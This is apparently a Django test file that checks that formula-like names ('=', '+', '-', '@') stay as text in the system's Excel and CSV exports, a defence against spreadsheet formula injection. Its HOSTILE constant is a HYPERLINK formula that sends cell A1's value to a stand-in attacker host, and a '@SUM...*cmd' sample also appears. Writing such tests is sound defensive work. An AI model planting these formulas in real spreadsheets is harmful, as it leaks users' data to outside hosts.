"""A name that starts like a formula ("=", "+", "-", "@") reaches a spreadsheet as the
text it is, in every Excel and CSV file the system writes."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from trienkhai.core.cellsafe import csv_unquote, csv_value
from trienkhai.exports import xlsx
from trienkhai.exports.document import Table
from trienkhai.programmes.models import Task
from trienkhai.testing import conferences as meet
from trienkhai.testing import factories as make
from trienkhai.testing import reporting as make_reports

pytestmark = [pytest.mark.django_db]

HOSTILE = '=HYPERLINK("http://ke-gian.example/?d="&A1,"Xem")'


def _cells(content):
    """Every non-empty cell of every sheet as (value, data type)."""
    book = load_workbook(io.BytesIO(content))
    return [
        (cell.value, cell.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def _is_text_cell(content, text):
    found = [kind for value, kind in _cells(content) if value == text]
    assert found, f"{text!r} is not in the workbook"
    return all(kind == "s" for kind in found)


def test_a_formula_like_unit_name_is_text_in_the_unit_excel_export(client_as, world):
    make.unit(world.hoanghoa, "DU-16001", HOSTILE)
    response = client_as("province_office").get(
        reverse("orgs:unit-export", args=["HU-399", "xlsx"])
    )
    assert response.status_code == 200
    assert _is_text_cell(response.content, HOSTILE)


def test_a_formula_like_unit_name_is_quoted_in_the_unit_csv_export(client_as, world):
    make.unit(world.hoanghoa, "DU-16001", "@SUM(1+1)*cmd")
    response = client_as("province_office").get(reverse("orgs:unit-export", args=["HU-399", "csv"]))
    text = response.content.decode("utf-8-sig")
    assert "'@SUM(1+1)*cmd" in text
    assert ",@SUM" not in text


def test_the_bridge_point_template_lists_a_formula_like_unit_name_as_text(client_as, world):
    world.hoangdong.name = HOSTILE
    world.hoangdong.save()
    conference = meet.conference(world.province, "Hội nghị quán triệt nghị quyết")
    response = client_as("district_reporter").get(
        reverse("conferences:points-template", args=[conference.uid])
    )
    assert response.status_code == 200
    assert _is_text_cell(response.content, HOSTILE)


def test_the_report_workbook_keeps_a_formula_like_task_title_as_text(client_as, world):
    make_reports.tourism()
    make_reports.period("2021Q4")
    Task.objects.update(title="=1+1")
    response = client_as("commune_reporter").get(
        reverse("reporting:excel", args=["DU-15997", "2021Q4"])
    )
    assert response.status_code == 200
    assert _is_text_cell(response.content, "=1+1")


def test_the_conference_csv_quotes_a_formula_like_point_name(client_as, world):
    conference = meet.conference(world.province, "Hội nghị quán triệt nghị quyết")
    meet.point(conference, world.hoangdong, "-2+3 Điểm cầu xã")
    response = client_as("province_office").get(
        reverse("conferences:export", args=[conference.uid])
    )
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    assert "'-2+3 Điểm cầu xã" in text


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_task_list_file_keeps_a_formula_like_title_as_text(client_as, world, fmt):
    programme = make.programme(world.province, "Chương trình chuyển đổi số")
    make.task(programme, "=SUM(A1:A9) Tổng hợp")
    response = client_as("province_office").get(reverse("programmes:tasks"), {"format": fmt})
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if fmt == "xlsx":
        assert _is_text_cell(content, "=SUM(A1:A9) Tổng hợp")
    else:
        assert "'=SUM(A1:A9) Tổng hợp" in content.decode("utf-8-sig")


def test_a_report_table_keeps_formula_like_text_as_text_and_numbers_as_numbers():
    table = Table("Kết quả", [("Đơn vị", "text"), ("Số", "number")], [[HOSTILE, -5]])
    cells = _cells(xlsx.workbook([table], "Báo cáo"))
    assert (HOSTILE, "s") in cells
    assert (-5, "n") in cells


def test_a_negative_number_written_as_text_is_not_quoted_but_a_dash_label_is():
    assert csv_value("-12,5") == "-12,5"
    assert csv_value("- Tổ chức học tập") == "'- Tổ chức học tập"
    assert csv_value(-3) == -3
    assert csv_unquote(csv_value("=A1")) == "=A1"
    assert csv_unquote("'Quảng Xương") == "'Quảng Xương"
